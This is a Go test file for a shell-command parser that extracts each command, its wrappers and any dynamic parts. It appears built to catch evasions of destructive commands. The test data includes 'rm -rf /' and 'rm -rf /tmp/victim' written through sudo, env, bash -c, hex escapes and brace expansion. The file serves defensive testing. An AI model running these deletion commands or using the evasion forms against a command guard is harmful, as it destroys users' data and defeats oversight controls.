	{name: "read a line", src: "read -r -p 'name? ' line", want: [][]string{{"read", "-r", "-p", "name? ", "line"}}},
	{name: "printf -v", src: "printf -v out '%s' x", want: [][]string{{"printf", "-v", "out", "%s", "x"}}},
	{name: "mapfile", src: "mapfile -t lines", want: [][]string{{"mapfile", "-t", "lines"}}},
	{name: "hash", src: "hash -r", want: [][]string{{"hash", "-r"}}},
	{name: "array", src: "a=(1 2 3)", want: nil},
	{name: "plain prompt", src: `PS1='\u@\h:\w\$ '`, want: nil},
	{name: "prompt command array", src: "PROMPT_COMMAND=('history -a' 'date')", want: [][]string{{"history", "-a"}, {"date"}}},
	{name: "assignment only", src: "X=1 Y=2", want: nil},
	{name: "assignment prefix", src: "LANG=C sort file", want: [][]string{{"sort", "file"}}},
	{name: "redirections", src: "cat < in > out 2>&1", want: [][]string{{"cat"}}},
	{name: "comment", src: "ls # rm -rf /", want: [][]string{{"ls"}}},
	{name: "here-doc to cat", src: "cat <<EOF\nrm -rf /\nEOF", want: [][]string{{"cat"}}},
	{name: "pipe into cat", src: "echo hi | cat", want: [][]string{{"echo", "hi"}, {"cat"}}},
	{name: "shell script file", src: "bash ./deploy.sh arg", want: [][]string{{"bash", "./deploy.sh", "arg"}}},
	{name: "interactive shell", src: "sudo -i", want: [][]string{{"sudo", "-i"}}},
	{name: "interactive su", src: "sudo su -", want: [][]string{{"sudo", "su", "-"}, {"su", "-"}}},
	{name: "command -v", src: "command -v rm", want: [][]string{{"command", "-v", "rm"}}},
	{name: "sudo -e", src: "sudo -e /etc/hosts", want: [][]string{{"sudo", "-e", "/etc/hosts"}}},
	{name: "python -c", src: "python3 -c 'print(1)'", want: [][]string{{"python3", "-c", "print(1)"}}},
	{name: "python module from pipe", src: "echo {} | python3 -m json.tool", want: [][]string{{"echo", "{}"}, {"python3", "-m", "json.tool"}}},
	{name: "declare", src: `export PATH="/x:$PATH" LANG`, want: [][]string{{"export", "PATH=/x:$PATH", "LANG"}}},
	{name: "let", src: "let i=1", want: [][]string{{"let", "i=1"}}},
	{name: "test clause", src: "[[ -f /etc/passwd ]] && echo yes", want: [][]string{{"echo", "yes"}}},
	{name: "test builtin", src: "[ -f x ]", want: [][]string{{"[", "-f", "x", "]"}}},
	{name: "ssh login", src: "ssh -i key host", want: [][]string{{"ssh", "-i", "key", "host"}}},
	{name: "nul byte", src: "echo a\x00b", want: [][]string{{"echo", "ab"}}},
	{name: "ansi-c nul cuts", src: `echo $'a\x00b'`, want: [][]string{{"echo", "a"}}},
	{name: "empty", src: "", want: nil},
	{name: "only comment", src: "# nothing", want: nil},
	{name: "trailing backslash in comment", src: "ls # c \\", want: [][]string{{"ls"}}},
	{name: "escaped backslash at end", src: `echo \\`, want: [][]string{{"echo", `\`}}},
	{name: "unicode", src: "echo héllo 世界", want: [][]string{{"echo", "héllo", "世界"}}},
	{name: "tilde", src: "ls ~/x ~root", want: [][]string{{"ls", "~/x", "~root"}}},
	{name: "keyword as argument", src: "echo if then fi", want: [][]string{{"echo", "if", "then", "fi"}}},
	{name: "quoted keyword command", src: "'if' x", want: [][]string{{"if", "x"}}},
	{name: "trap reset", src: "trap - EXIT", want: [][]string{{"trap", "-", "EXIT"}}},
	{name: "xargs default echo", src: "ls | xargs", want: [][]string{{"ls"}, {"xargs"}}},
	{name: "rsync over ssh", src: `rsync -av --partial -e 'ssh -p 2222' "$SRC" host:dst`, want: [][]string{{"rsync", "-av", "--partial", "-e", "ssh -p 2222", "$SRC", "host:dst"}, {"ssh", "-p", "2222"}}},
	{name: "rsync server", src: "rsync --server -vlogDtpre.iLsfxCIvu --delete . 'my dir:x/'", want: [][]string{{"rsync", "--server", "-vlogDtpre.iLsfxCIvu", "--delete", ".", "my dir:x/"}}},
	{name: "rsync local", src: "rsync -a a/ b/", want: [][]string{{"rsync", "-a", "a/", "b/"}}},
	{name: "rsync daemon", src: "rsync -a rsync://mirror/x .", want: [][]string{{"rsync", "-a", "rsync://mirror/x", "."}}},
	{name: "scp", src: `scp -P 2222 'host:my\ file' .`, want: [][]string{{"scp", "-P", "2222", `host:my\ file`, "."}, {"scp", "-f", "my file"}}},
	{name: "tar", src: "tar -czf x.tgz --exclude '*.log' -C /srv app && tar xzf x.tgz", want: [][]string{{"tar", "-czf", "x.tgz", "--exclude", "*.log", "-C", "/srv", "app"}, {"tar", "xzf", "x.tgz"}}},
	{name: "ssh ProxyCommand jump", src: "ssh -o ProxyCommand='ssh -W %h:%p jump' host", want: [][]string{{"ssh", "-o", "ProxyCommand=ssh -W %h:%p jump", "host"}, {"ssh", "-W", "%h:%p", "jump"}}},
}

func analyzeOK(t *testing.T, src string) *Analysis {
	t.Helper()
	a, err := Analyze(src)
	if err != nil {
		t.Fatalf("Analyze(%q): %v", src, err)
	}
	if a.Incomplete {
		t.Fatalf("Analyze(%q): got Incomplete, want a complete command", src)
	}
	return a
}

func dump(a *Analysis) string {
	var b strings.Builder
	for _, c := range a.Commands {
		fmt.Fprintf(&b, "\n  command %q wrappers %q", c.Argv, c.Wrappers)
	}
	for _, u := range a.Unknowable {
		fmt.Fprintf(&b, "\n  unknowable %q: %q", u.Reason, u.Text)
	}
	return b.String()
}

func TestAnalyzeBypasses(t *testing.T) {
	t.Parallel()
	for _, tc := range bypassCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			a := analyzeOK(t, tc.src)
			if tc.reason != "" {
				for _, u := range a.Unknowable {
					if u.Reason == tc.reason {
						return
					}
				}
				t.Fatalf("Analyze(%q): no Unknowable %q in:%s", tc.src, tc.reason, dump(a))
			}
			for _, c := range a.Commands {
				if c.Name == "rm" && slices.Equal(c.Argv, tc.argv) {
					if tc.wraps != nil && !slices.Equal(c.Wrappers, tc.wraps) {
						t.Fatalf("Analyze(%q): rm wrappers got %q, want %q", tc.src, c.Wrappers, tc.wraps)
					}
					return
				}
			}
			t.Fatalf("Analyze(%q): no rm command %q in:%s", tc.src, tc.argv, dump(a))
		})
	}
}

func TestAnalyzeBenign(t *testing.T) {
	t.Parallel()
	for _, tc := range benignCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			a := analyzeOK(t, tc.src)
			var got [][]string
			for _, c := range a.Commands {
				got = append(got, c.Argv)
			}
			if !slices.EqualFunc(got, tc.want, slices.Equal) {
				t.Fatalf("Analyze(%q): got commands %q, want %q", tc.src, got, tc.want)
			}
			if len(a.Unknowable) > 0 {
				t.Fatalf("Analyze(%q): got unknowable:%s", tc.src, dump(a))
			}
		})
	}
}

func TestAnalyzeWrapperReported(t *testing.T) {
	t.Parallel()
	a := analyzeOK(t, "sudo -u root env X=1 rm -rf /x")
	want := []Command{
		{Argv: []string{"sudo", "-u", "root", "env", "X=1", "rm", "-rf", "/x"}, Name: "sudo"},
		{Argv: []string{"env", "X=1", "rm", "-rf", "/x"}, Name: "env", Wrappers: []string{"sudo"}},
		{Argv: []string{"rm", "-rf", "/x"}, Name: "rm", Wrappers: []string{"sudo", "env"}},
	}
	if len(a.Commands) != len(want) {
		t.Fatalf("got %d commands, want %d:%s", len(a.Commands), len(want), dump(a))
	}
	for i, w := range want {
		c := a.Commands[i]
		if c.Name != w.Name || !slices.Equal(c.Argv, w.Argv) || !slices.Equal(c.Wrappers, w.Wrappers) {
			t.Errorf("command %d: got %q %q %q, want %q %q %q", i, c.Name, c.Argv, c.Wrappers, w.Name, w.Argv, w.Wrappers)
		}
	}
	if got, want := a.Names(), []string{"sudo", "env", "rm"}; !slices.Equal(got, want) {
		t.Errorf("Names: got %q, want %q", got, want)
	}
}

func TestAnalyzeText(t *testing.T) {
	t.Parallel()
	tests := []struct{ src, want string }{
		{`"rm" -rf /tmp/victim`, "rm -rf /tmp/victim"},
		{`rm -rf "a b" 'c'"d"`, "rm -rf 'a b' cd"},
		{`echo "$HOME"`, "echo '$HOME'"},
		{`echo $'\n'`, `echo $'\n'`},
		{`'if' x`, "'if' x"},
		{`printf '%s' "it's"`, `printf %s "it's"`},
	}
	for _, tc := range tests {
		a := analyzeOK(t, tc.src)
		if got := a.Commands[0].Text; got != tc.want {
			t.Errorf("Analyze(%q).Commands[0].Text: got %q, want %q", tc.src, got, tc.want)
		}
	}
}

// TestTextRoundTrip checks, for every table input, that Analyze of each
// command's Text yields the same argv.
func TestTextRoundTrip(t *testing.T) {
	t.Parallel()
	var srcs []string
	for _, tc := range bypassCases {
		srcs = append(srcs, tc.src)
	}
	for _, tc := range benignCases {
		srcs = append(srcs, tc.src)
	}
	for _, src := range srcs {
		a := analyzeOK(t, src)
		for _, c := range a.Commands {
			checkRoundTrip(t, c)
		}
	}
}

func checkRoundTrip(t *testing.T, c Command) {
	t.Helper()
	b, err := Analyze(c.Text)
	if err != nil || b.Incomplete || len(b.Commands) == 0 {
		t.Fatalf("Analyze(Text %q) of %q: err %v, incomplete %v, %d commands", c.Text, c.Argv, err, b != nil && b.Incomplete, len(b.Commands))
	}
	if got := b.Commands[0].Argv; !slices.Equal(got, c.Argv) {
		t.Fatalf("Analyze(Text %q): got argv %q, want %q", c.Text, got, c.Argv)
	}
}

func TestAnalyzeIncomplete(t *testing.T) {
	t.Parallel()
	for _, src := range incompleteCases {
		a, err := Analyze(src)
		if err != nil {
			t.Errorf("Analyze(%q): got error %v, want Incomplete", src, err)
			continue
		}
		if !a.Incomplete {
			t.Errorf("Analyze(%q): got complete:%s, want Incomplete", src, dump(a))
		}
		if len(a.Commands) != 0 || len(a.Unknowable) != 0 {
			t.Errorf("Analyze(%q): Incomplete with results:%s", src, dump(a))
		}
	}
}

var incompleteCases = []string{
	`echo "abc`,
	`echo 'abc`,
	`echo $'abc`,
	"ls \\",
	"ls \\\n",
	"echo a \\\\\\",
	"if true; then",
	"if true; then ls; else",
	"for x in a; do",
	"while true",
	"case x in",
	"f() {",
	"{ ls;",
	"(",
	"ls |",
	"ls &&",
	"ls ||",
	"echo $(",
	"echo `ls",
	"cat <<EOF",
	"cat <<EOF\nabc",
	"a=(",
	"[[ -f x",
	"bash -c 'rm -rf /tmp/victim",
}

var syntaxErrorCases = []string{
	"ls )",
	"fi",
	"done",
	"esac",
	"then ls",
	"ls ;;",
	"if; then fi",
	"echo ${",
	"(( 1 +",
	"a=(1 2) b",
	"| ls",
	"&& ls",
	"echo $((1 2))",
	"function",
}

func TestAnalyzeSyntaxErrors(t *testing.T) {
	t.Parallel()
	for _, src := range syntaxErrorCases {
		a, err := Analyze(src)
		if err == nil && a.Incomplete {
			continue // some of these read as unfinished to a shell too
		}
		if !errors.Is(err, ErrSyntax) {
			t.Errorf("Analyze(%q): got %v, %v; want an error wrapping ErrSyntax", src, err, a)
			continue
		}
		if !strings.HasPrefix(err.Error(), "shellcmd: ") {
			t.Errorf("Analyze(%q): got error %q, want the shellcmd: prefix", src, err)
		}
	}
}

func TestAnalyzeLimits(t *testing.T) {
	t.Parallel()
	t.Run("too large", func(t *testing.T) {
		_, err := Analyze(strings.Repeat("a", MaxInputBytes+1))
		if !errors.Is(err, ErrTooLarge) {
			t.Fatalf("got %v, want ErrTooLarge", err)
		}
	})
	t.Run("too deep parentheses", func(t *testing.T) {
		_, err := Analyze(strings.Repeat("(", 100000))
		if !errors.Is(err, ErrTooComplex) {
			t.Fatalf("got %v, want ErrTooComplex", err)
		}
	})
	t.Run("nesting beyond MaxDepth", func(t *testing.T) {
		src := "rm x"
		for i := 0; i <= MaxDepth; i++ {
			q, _ := quoteForTest(src)
			src = "bash -c " + q
		}
		a := analyzeOK(t, src)
		if !hasReason(a, ReasonTooDeep) {
			t.Fatalf("got:%s, want %q", dump(a), ReasonTooDeep)
		}
	})
	t.Run("nesting within MaxDepth", func(t *testing.T) {
		src := "rm x"
		for i := 0; i < MaxDepth; i++ {
			q, _ := quoteForTest(src)
			src = "bash -c " + q
		}
		a := analyzeOK(t, src)
		last := a.Commands[len(a.Commands)-1]
		if last.Name != "rm" || len(last.Wrappers) != MaxDepth {
			t.Fatalf("got last command %q with %d wrappers, want rm with %d:%s", last.Argv, len(last.Wrappers), MaxDepth, dump(a))
		}
	})
	t.Run("nested too complex", func(t *testing.T) {
		// $'\x28' costs the parser nothing; decoded, it is "(".
		a := analyzeOK(t, "bash -c $'"+strings.Repeat(`\x28`, 10000)+"'")
		if !hasReason(a, ReasonTooComplex) {
			t.Fatalf("got:%s, want %q", dump(a), ReasonTooComplex)
		}
	})
	t.Run("wrapper chain", func(t *testing.T) {
		a := analyzeOK(t, strings.Repeat("nice ", 100)+"rm x")
		if !hasReason(a, ReasonTooDeep) {
			t.Fatalf("got %d commands, want %q", len(a.Commands), ReasonTooDeep)
		}
	})
	t.Run("unknowable text is bounded", func(t *testing.T) {
		a := analyzeOK(t, "$X "+strings.Repeat("a", 10000))
		if len(a.Unknowable) != 1 || len(a.Unknowable[0].Text) > maxUnknowableText+3 {
			t.Fatalf("got %d unknowable, text length %d", len(a.Unknowable), len(a.Unknowable[0].Text))
		}
	})
}

func hasReason(a *Analysis, reason string) bool {
	for _, u := range a.Unknowable {
		if u.Reason == reason {
			return true
		}
	}
	return false
}

// quoteForTest single-quotes s for the shell.
func quoteForTest(s string) (string, error) {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'", nil
}

// TestAnalyzeConcurrent runs analyses in parallel and checks each result:
// Analyze shares no state between calls (expand.Format with a nil Config
// does, and corrupted $'...' strings under load before this was fixed).
func TestAnalyzeConcurrent(t *testing.T) {
	t.Parallel()
	srcs := []string{`$'\x72\x6d' -rf /tmp/victim`, `echo $'\u00e9t\xc3\xa9'`, `bash -c $'rm\tx'`, "{rm,-rf,/tmp/victim}"}
	want := make([][]string, len(srcs))
	for i, src := range srcs {
		a := analyzeOK(t, src)
		want[i] = a.Commands[len(a.Commands)-1].Argv
	}
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for g := 0; g < 8; g++ {
		wg.Go(func() {
			for n := 0; n < 200; n++ {
				i := (g + n) % len(srcs)
				a, err := Analyze(srcs[i])
				if err != nil {
					errs <- err.Error()
					return
				}
				if got := a.Commands[len(a.Commands)-1].Argv; !slices.Equal(got, want[i]) {
					errs <- fmt.Sprintf("Analyze(%q): got %q, want %q", srcs[i], got, want[i])
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}

func TestAnalyzeDynamic(t *testing.T) {
	t.Parallel()
	tests := []struct {
		src  string
		want bool // Dynamic of the last command
	}{
		{"rm -rf /tmp/victim", false},
		{`rm -rf "/tmp/$X"`, true},
		{`f() { rm "$@"; }`, true},
		{"rm $(cat list)", true},
		{"echo x | xargs rm -rf", true},
		{"alias x='rm'", true},
		{"sudo rm -rf /tmp/victim", false},
		{`echo '$HOME'`, false},
		{"export A=$B", true},
	}
	for _, tc := range tests {
		c := lastCommand(t, tc.src)
		if tc.src == "rm $(cat list)" {
			c = analyzeOK(t, tc.src).Commands[0]
		}
		if c.Dynamic != tc.want {
			t.Errorf("Analyze(%q): command %q Dynamic got %v, want %v", tc.src, c.Argv, c.Dynamic, tc.want)
		}
	}
}
